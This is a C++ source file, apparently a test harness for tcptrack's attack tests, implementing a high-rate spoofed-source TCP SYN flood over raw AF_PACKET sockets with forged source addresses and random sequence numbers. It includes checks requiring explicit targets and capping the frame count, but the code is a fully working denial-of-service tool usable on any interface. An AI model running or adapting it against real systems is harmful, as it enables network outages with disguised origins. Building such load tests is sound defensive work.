// SPDX-License-Identifier: MIT
// Spoofed-source SYN flood for the tcptrack attack tests (tests/e2e/attack_test.py).
//
//   synflood --interface IF --dst-mac MAC --dst-ip IPV4 --dst-port P --count N
//            --src-prefix A.B.C.D/LEN [--seed S] [--method ring|sendmmsg] [--no-bypass]
//
// Sends exactly N raw Ethernet frames (IPv4 + TCP SYN with an MSS option) out
// of IF, an AF_PACKET socket bound to it with PACKET_QDISC_BYPASS: by default
// with sendmmsg() batches of 512, or through a PACKET_TX_RING (TPACKET_V2,
// --method ring). The ring is a little faster, but its skbs carry everything
// past the Ethernet header in page fragments: a veth peer receives them
// non-linear, which no NIC driver does with a 58-byte frame, and tcptrack's
// parser (direct packet access, linear data only) does not see them at all
// (tcptrack then only sees the server's SYN-ACKs). sendmmsg() frames are
// linear, as a NIC delivers them. Frame i
// comes from source address 1 + (i mod H) of the prefix (H = its usable hosts)
// and source port 1024 + ((i / H) * 7919 + seed) mod 64512, so the N 4-tuples
// are distinct as long as N <= H * 64512; every frame carries a random ISN and
// IP ID. Frames are built once from a template and only these fields (with the
// checksums, updated incrementally) change per frame.
//
// Safety: every one of --interface, --dst-mac, --dst-ip, --dst-port, --count
// and --src-prefix must be given explicitly (no defaults, no broadcast or
// multicast destination), and 1 <= N <= 20,000,000. Anything else exits 2.
//
// Prints one JSON line: {"frames_requested","frames_sent","elapsed_s","rate_fps",
// "method","qdisc_bypass","interface","src_prefix","distinct_tuples"}.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <optional>
#include <string>
#include <vector>

namespace {

constexpr std::uint64_t kMaxCount = 20'000'000;
constexpr std::uint32_t kPorts = 64512;  // source ports 1024..65535

[[noreturn]] void usage_error(const std::string& msg) {
    std::fprintf(stderr, "synflood: %s\n", msg.c_str());
    std::fprintf(stderr,
                 "usage: synflood --interface IF --dst-mac MAC --dst-ip IPV4 --dst-port P "
                 "--count N --src-prefix A.B.C.D/LEN [--seed S] [--method ring|sendmmsg] "
                 "[--no-bypass]\n");
    std::exit(2);
}

[[noreturn]] void sys_error(const char* what) {
    std::fprintf(stderr, "synflood: %s: %s\n", what, std::strerror(errno));
    std::exit(1);
}

std::optional<std::array<std::uint8_t, 6>> parse_mac(const std::string& s) {
    std::array<std::uint8_t, 6> m{};
    unsigned v[6];
    char tail;
    if (std::sscanf(s.c_str(), "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5],
                    &tail) != 6)
        return std::nullopt;
    for (int i = 0; i < 6; ++i) {
        if (v[i] > 0xff) return std::nullopt;
        m[i] = static_cast<std::uint8_t>(v[i]);
    }
    return m;
}

std::optional<std::uint64_t> parse_uint(const std::string& s, std::uint64_t max) {
    if (s.empty() || s.size() > 20 || s.find_first_not_of("0123456789") != std::string::npos)
        return std::nullopt;
    errno = 0;
    const unsigned long long v = std::strtoull(s.c_str(), nullptr, 10);
    if (errno || v > max) return std::nullopt;
    return v;
}

// One's-complement sum helpers (RFC 1071 / RFC 1624 incremental update).
std::uint32_t csum_add(std::uint32_t sum, const void* data, std::size_t len) {
    const auto* p = static_cast<const std::uint8_t*>(data);
    for (std::size_t i = 0; i + 1 < len; i += 2) sum += (p[i] << 8) | p[i + 1];
    if (len & 1) sum += p[len - 1] << 8;
    return sum;
}

std::uint16_t csum_fold(std::uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return static_cast<std::uint16_t>(~sum & 0xffff);
}

std::uint64_t splitmix(std::uint64_t& s) {
    std::uint64_t z = (s += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

constexpr std::size_t kEth = 14, kIp = 20, kTcp = 24;  // TCP: 20 + MSS option
constexpr std::size_t kFrame = kEth + kIp + kTcp;      // 58 bytes (padded to 60 by nobody: veth
                                                       // carries short frames as they are)

struct Flood {
    std::array<std::uint8_t, kFrame> tmpl{};
    std::uint32_t src_base = 0;  // host order, the prefix's network address
    std::uint32_t hosts = 0;     // usable hosts: base + 1 .. base + hosts
    std::uint32_t seed = 0;
    std::uint64_t rng = 0;
    // Sums of the template with the varying fields zero (host-order 16-bit words).
    std::uint32_t ip_sum0 = 0, tcp_sum0 = 0;

    void build(const std::array<std::uint8_t, 6>& dmac, const std::array<std::uint8_t, 6>& smac,
               std::uint32_t dst_ip_n, std::uint16_t dport) {
        std::uint8_t* f = tmpl.data();
        std::memcpy(f, dmac.data(), 6);
        std::memcpy(f + 6, smac.data(), 6);
        f[12] = 0x08;
        f[13] = 0x00;
        auto* ip = reinterpret_cast<iphdr*>(f + kEth);
        ip->version = 4;
        ip->ihl = 5;
        ip->tot_len = htons(kIp + kTcp);
        ip->frag_off = htons(IP_DF);
        ip->ttl = 64;
        ip->protocol = IPPROTO_TCP;
        ip->daddr = dst_ip_n;  // saddr, id, check: per frame
        auto* th = reinterpret_cast<tcphdr*>(f + kEth + kIp);
        th->dest = htons(dport);
        th->doff = kTcp / 4;
        th->syn = 1;
        th->window = htons(64240);
        std::uint8_t* opt = f + kEth + kIp + 20;
        opt[0] = 2;  // MSS 1460
        opt[1] = 4;
        opt[2] = 1460 >> 8;
        opt[3] = 1460 & 0xff;
        ip_sum0 = csum_add(0, ip, kIp);
        // Pseudo header (source address added per frame) + TCP header with
        // source port, sequence number and checksum zero.
        std::uint32_t s = csum_add(0, &ip->daddr, 4);
        s += IPPROTO_TCP;
        s += kTcp;
        tcp_sum0 = csum_add(s, th, kTcp);
    }

    // Writes frame i into out (kFrame bytes).
    void frame(std::uint64_t i, std::uint8_t* out) {
        std::memcpy(out, tmpl.data(), kFrame);
        const std::uint32_t saddr = src_base + 1 + static_cast<std::uint32_t>(i % hosts);
        const auto sport = static_cast<std::uint16_t>(
            1024 + ((i / hosts) * 7919 + seed) % kPorts);
        const std::uint64_t r = splitmix(rng);
        const auto isn = static_cast<std::uint32_t>(r);
        const auto id = static_cast<std::uint16_t>(r >> 32);

        auto* ip = reinterpret_cast<iphdr*>(out + kEth);
        ip->saddr = htonl(saddr);
        ip->id = htons(id);
        std::uint32_t s = ip_sum0 + (saddr >> 16) + (saddr & 0xffff) + id;
        ip->check = htons(csum_fold(s));

        auto* th = reinterpret_cast<tcphdr*>(out + kEth + kIp);
        th->source = htons(sport);
        th->seq = htonl(isn);
        s = tcp_sum0 + (saddr >> 16) + (saddr & 0xffff) + sport + (isn >> 16) + (isn & 0xffff);
        th->check = htons(csum_fold(s));
    }
};

struct Ring {
    int fd = -1;
    std::uint8_t* map = nullptr;
    std::size_t frames = 0, frame_size = 0, map_len = 0;
};

constexpr std::size_t kRingFrameSize = 128;  // >= TPACKET2_HDRLEN + 58, multiple of 16
constexpr std::size_t kRingBlock = 1 << 16;
constexpr std::size_t kRingBlocks = 64;  // 32768 frames, 4 MiB

std::uint64_t send_ring(int fd, int ifindex, Flood& fl, std::uint64_t count) {
    int v = TPACKET_V2;
    if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &v, sizeof(v)) != 0)
        sys_error("PACKET_VERSION");
    tpacket_req req{};
    req.tp_block_size = kRingBlock;
    req.tp_block_nr = kRingBlocks;
    req.tp_frame_size = kRingFrameSize;
    req.tp_frame_nr = kRingBlock / kRingFrameSize * kRingBlocks;
    if (setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &req, sizeof(req)) != 0)
        sys_error("PACKET_TX_RING");
    const std::size_t len = static_cast<std::size_t>(req.tp_block_size) * req.tp_block_nr;
    auto* map = static_cast<std::uint8_t*>(
        mmap(nullptr, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
    if (map == MAP_FAILED) sys_error("mmap TX ring");
    sockaddr_ll sll{};
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = ifindex;
    sll.sll_protocol = 0;  // send only: no receive queue
    if (bind(fd, reinterpret_cast<sockaddr*>(&sll), sizeof(sll)) != 0) sys_error("bind");

    const std::size_t nframes = req.tp_frame_nr;
    const std::size_t data_off = TPACKET_ALIGN(sizeof(tpacket2_hdr));
    std::uint64_t queued = 0, wrong = 0;
    std::size_t cur = 0;
    const auto kick = [&](int flags) {
        if (send(fd, nullptr, 0, flags) < 0 && errno != EAGAIN && errno != ENOBUFS &&
            errno != EINTR)
            sys_error("send (TX ring)");
    };
    while (queued < count) {
        auto* hdr = reinterpret_cast<tpacket2_hdr*>(map + cur * kRingFrameSize);
        const std::uint32_t st = __atomic_load_n(&hdr->tp_status, __ATOMIC_ACQUIRE);
        if (st == TP_STATUS_SEND_REQUEST || st == TP_STATUS_SENDING) {
            kick(MSG_DONTWAIT);
            pollfd p{fd, POLLOUT, 0};
            poll(&p, 1, 10);
            continue;
        }
        if (st & TP_STATUS_WRONG_FORMAT) ++wrong;
        fl.frame(queued, reinterpret_cast<std::uint8_t*>(hdr) + data_off);
        hdr->tp_len = kFrame;
        __atomic_store_n(&hdr->tp_status, TP_STATUS_SEND_REQUEST, __ATOMIC_RELEASE);
        ++queued;
        cur = (cur + 1) % nframes;
        if (queued % 256 == 0) kick(MSG_DONTWAIT);
    }
    kick(0);  // blocking: returns once every queued frame left the ring
    // Wait until the kernel handed back every slot, counting malformed ones.
    for (std::size_t i = 0; i < nframes; ++i) {
        auto* hdr = reinterpret_cast<tpacket2_hdr*>(map + i * kRingFrameSize);
        for (int tries = 0; tries < 1000; ++tries) {
            const std::uint32_t st = __atomic_load_n(&hdr->tp_status, __ATOMIC_ACQUIRE);
            if (st != TP_STATUS_SEND_REQUEST && st != TP_STATUS_SENDING) {
                if (st & TP_STATUS_WRONG_FORMAT) ++wrong;
                break;
            }
            kick(0);
        }
    }
    munmap(map, len);
    if (wrong) std::fprintf(stderr, "synflood: %llu frames refused by the kernel\n",
                            static_cast<unsigned long long>(wrong));
    return queued - wrong;
}

std::uint64_t send_mmsg(int fd, int ifindex, Flood& fl, std::uint64_t count) {
    sockaddr_ll sll{};
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = ifindex;
    sll.sll_protocol = 0;
    if (bind(fd, reinterpret_cast<sockaddr*>(&sll), sizeof(sll)) != 0) sys_error("bind");
    constexpr std::size_t kBatch = 512;
    std::vector<std::array<std::uint8_t, kFrame>> bufs(kBatch);
    std::vector<iovec> iov(kBatch);
    std::vector<mmsghdr> msgs(kBatch);
    std::uint64_t sent = 0;
    while (sent < count) {
        const std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(kBatch, count - sent));
        for (std::size_t k = 0; k < n; ++k) {
            fl.frame(sent + k, bufs[k].data());
            iov[k] = {bufs[k].data(), kFrame};
            msgs[k] = {};
            msgs[k].msg_hdr.msg_iov = &iov[k];
            msgs[k].msg_hdr.msg_iovlen = 1;
        }
        std::size_t done = 0;
        while (done < n) {
            const int r = sendmmsg(fd, msgs.data() + done, static_cast<unsigned>(n - done), 0);
            if (r < 0) {
                if (errno == EINTR || errno == ENOBUFS || errno == EAGAIN) {
                    pollfd p{fd, POLLOUT, 0};
                    poll(&p, 1, 10);
                    continue;
                }
                sys_error("sendmmsg");
            }
            done += static_cast<std::size_t>(r);
        }
        sent += n;
    }
    return sent;
}

}  // namespace

int main(int argc, char** argv) {
    std::map<std::string, std::string> opt;
    bool bypass = true;
    for (int i = 1; i < argc; ++i) {
        const std::string k = argv[i];
        if (k == "--no-bypass") {
            bypass = false;
            continue;
        }
        static const char* const known[] = {"--interface", "--dst-mac", "--dst-ip", "--dst-port",
                                            "--count", "--src-prefix", "--seed", "--method"};
        if (std::find_if(std::begin(known), std::end(known),
                         [&](const char* n) { return k == n; }) == std::end(known))
            usage_error("unknown option " + k);
        if (i + 1 >= argc) usage_error(k + " needs a value");
        opt[k] = argv[++i];
    }
    for (const char* need : {"--interface", "--dst-mac", "--dst-ip", "--dst-port", "--count",
                             "--src-prefix"})
        if (!opt.count(need))
            usage_error(std::string("refusing to run without an explicit ") + need);

    const auto dmac = parse_mac(opt["--dst-mac"]);
    if (!dmac) usage_error("bad --dst-mac " + opt["--dst-mac"]);
    if ((*dmac)[0] & 1) usage_error("--dst-mac must be a unicast address");
    in_addr dst{};
    if (inet_pton(AF_INET, opt["--dst-ip"].c_str(), &dst) != 1)
        usage_error("bad --dst-ip " + opt["--dst-ip"] + " (an IPv4 address)");
    const std::uint32_t dst_h = ntohl(dst.s_addr);
    if (dst_h == 0 || dst_h == 0xffffffff || (dst_h >> 28) == 0xe)
        usage_error("--dst-ip must be a unicast address");
    const auto dport = parse_uint(opt["--dst-port"], 65535);
    if (!dport || *dport == 0) usage_error("bad --dst-port " + opt["--dst-port"]);
    const auto count = parse_uint(opt["--count"], kMaxCount);
    if (!count || *count == 0)
        usage_error("--count must be 1.." + std::to_string(kMaxCount) + ", got " + opt["--count"]);

    const std::string& pfx = opt["--src-prefix"];
    const auto slash = pfx.find('/');
    in_addr src{};
    const auto plen = slash == std::string::npos ? std::nullopt : parse_uint(pfx.substr(slash + 1), 30);
    if (!plen || *plen < 8 || inet_pton(AF_INET, pfx.substr(0, slash).c_str(), &src) != 1)
        usage_error("bad --src-prefix " + pfx + " (A.B.C.D/LEN, LEN 8..30)");

    Flood fl;
    const std::uint32_t mask = *plen == 0 ? 0 : ~0u << (32 - *plen);
    fl.src_base = ntohl(src.s_addr) & mask;
    fl.hosts = (~mask) - 1;  // without the network and broadcast addresses
    if (opt.count("--seed")) {
        const auto s = parse_uint(opt["--seed"], 0xffffffffu);
        if (!s) usage_error("bad --seed");
        fl.seed = static_cast<std::uint32_t>(*s);
    }
    if (getrandom(&fl.rng, sizeof(fl.rng), 0) != sizeof(fl.rng)) sys_error("getrandom");
    const std::uint64_t distinct = std::min<std::uint64_t>(*count, std::uint64_t{fl.hosts} * kPorts);

    const std::string method = opt.count("--method") ? opt["--method"] : "sendmmsg";
    if (method != "ring" && method != "sendmmsg") usage_error("--method must be ring or sendmmsg");

    const std::string& ifname = opt["--interface"];
    const int ifindex = static_cast<int>(if_nametoindex(ifname.c_str()));
    if (ifindex == 0) sys_error(("interface " + ifname).c_str());
    const int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) sys_error("socket(AF_PACKET)");
    ifreq ifr{};
    std::snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname.c_str());
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) sys_error("SIOCGIFHWADDR");
    std::array<std::uint8_t, 6> smac{};
    std::memcpy(smac.data(), ifr.ifr_hwaddr.sa_data, 6);
    if (bypass) {
        int one = 1;
        if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) != 0)
            sys_error("PACKET_QDISC_BYPASS");
    }
    fl.build(*dmac, smac, dst.s_addr, static_cast<std::uint16_t>(*dport));

    const auto t0 = std::chrono::steady_clock::now();
    const std::uint64_t sent = method == "ring" ? send_ring(fd, ifindex, fl, *count)
                                                : send_mmsg(fd, ifindex, fl, *count);
    const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
    close(fd);
    std::printf("{\"frames_requested\":%llu,\"frames_sent\":%llu,\"elapsed_s\":%.6f,"
                "\"rate_fps\":%.0f,\"method\":\"%s\",\"qdisc_bypass\":%s,\"interface\":\"%s\","
                "\"src_prefix\":\"%s\",\"distinct_tuples\":%llu}\n",
                static_cast<unsigned long long>(*count), static_cast<unsigned long long>(sent),
                secs, secs > 0 ? sent / secs : 0.0, method.c_str(), bypass ? "true" : "false",
                ifname.c_str(), pfx.c_str(), static_cast<unsigned long long>(distinct));
    return sent == *count ? 0 : 1;
}
